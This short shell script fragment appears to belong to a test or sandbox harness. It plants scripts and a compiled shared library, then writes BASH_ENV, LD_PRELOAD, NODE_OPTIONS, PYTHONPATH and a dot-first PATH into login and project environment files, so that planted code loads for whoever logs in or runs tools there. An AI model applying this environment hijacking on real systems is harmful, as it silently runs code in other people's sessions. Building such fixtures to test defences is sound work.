# Files that set variables for whoever logs in: BASH_ENV, LD_PRELOAD, NODE_OPTIONS and the like.
plant forge.sh .forge.sh
plant node-liar.js liar.js
cc -shared -fPIC -o liar.so "$payloads/liar.c"
mkdir -p "$HOME/.config/environment.d"
printf '%s\n' BASH_ENV=/workspace/.forge.sh LD_PRELOAD=/workspace/liar.so > "$HOME/.pam_environment"
printf '%s\n' BASH_ENV=/workspace/.forge.sh PYTHONPATH=/workspace > "$HOME/.config/environment.d/x.conf"
printf '%s\n' 'NODE_OPTIONS="--require ./liar.js"' PYTHONPATH=. BASH_ENV=.forge.sh > .env
echo 'export PATH=.:$PATH' > .envrc
